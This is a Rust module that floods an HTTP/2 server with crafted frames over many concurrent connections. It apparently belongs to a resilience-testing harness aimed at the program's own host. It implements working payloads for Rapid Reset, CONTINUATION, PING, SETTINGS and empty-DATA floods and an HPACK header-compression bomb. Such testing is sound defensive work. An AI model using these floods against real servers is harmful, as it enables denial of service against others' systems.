//! Floods of HTTP/2 frames by an admitted caller.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::frames::{self, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frame, HEADERS, PING, SETTINGS};
use super::{Attacked, all, drain};
use crate::attacks::Kind;
use crate::program::client::{Client, Http};
use crate::program::{Error, HOST};

/// Of a connection, if it is let.
const FRAMES: u32 = 50_000;
const CHUNK: usize = 16 * 1024;
/// What the server may take to end a connection over which all was said.
const JUDGED: Duration = Duration::from_secs(1);

/// Over `count` connections at once, until it is over.
pub(super) async fn flood(attacked: &Attacked, kind: Kind, count: usize) -> Result<(), Error> {
    let said = Arc::new([frames::opening(), said(kind)].concat());
    let client = attacked.client(Some("admitted"), Http::Two)?.returning();
    let mut tasks = JoinSet::new();
    for number in 0..count {
        let client = client.from(Attacked::source(number));
        let (attacked, said) = (attacked.clone(), Arc::clone(&said));
        tasks.spawn(async move {
            while !attacked.is_over() {
                one(&attacked, &client, &said).await;
            }
        });
    }
    all(tasks).await
}

async fn one(attacked: &Attacked, client: &Client, said: &[u8]) {
    attacked.attempts();
    let Ok(stream) = client.tls().await else { return };
    attacked.opened();
    let (mut reader, mut writer) = tokio::io::split(stream);
    let saying = async {
        for chunk in said.chunks(CHUNK) {
            if writer.write_all(chunk).await.is_err() || writer.flush().await.is_err() {
                break;
            }
            attacked.sent(chunk.len());
        }
        sleep(JUDGED).await;
    };
    let by_server = tokio::select! {
        () = saying => false,
        () = drain(&mut reader) => true,
        () = attacked.over() => false,
    };
    attacked.ended(by_server);
}

fn said(kind: Kind) -> Vec<u8> {
    let times = usize::try_from(FRAMES).unwrap_or_default();
    match kind {
        Kind::RapidReset => (0..FRAMES)
            .flat_map(|n| {
                let stream = 2 * n + 1;
                let begun = Frame::request(stream, END_STREAM, "GET", "/rapid", &[]);
                [begun.bytes(), Frame::reset(stream).bytes()].concat()
            })
            .collect(),
        Kind::Continuation => {
            let begun = Frame::new(HEADERS, END_STREAM, 1, pseudo("/continued")).bytes();
            let more = Frame::new(CONTINUATION, 0, 1, frames::literal("x-more", "and more")).bytes();
            [begun, more.repeat(times)].concat()
        }
        Kind::Pings => Frame::new(PING, 0, 0, [7; 8]).bytes().repeat(times),
        Kind::Settings => Frame::new(SETTINGS, 0, 0, [0, 3, 0, 0, 0, 9]).bytes().repeat(times),
        Kind::EmptyData => {
            let begun = Frame::request(1, 0, "POST", "/empty", &[]).bytes();
            [begun, Frame::new(DATA, 0, 1, []).bytes().repeat(times)].concat()
        }
        // Each further byte is the field of 3.9 kB again.
        _ => (0..100)
            .flat_map(|n| {
                let mut block = pseudo("/bomb");
                block.extend(frames::indexed_literal("x-bomb", &"b".repeat(3_900)));
                block.extend(std::iter::repeat_n(0x80 | 0x3e, 12_000));
                Frame::new(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, block).bytes()
            })
            .collect(),
    }
}

fn pseudo(path: &str) -> Vec<u8> {
    let fields = [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", path)];
    fields.iter().flat_map(|(name, value)| frames::literal(name, value)).collect()
}
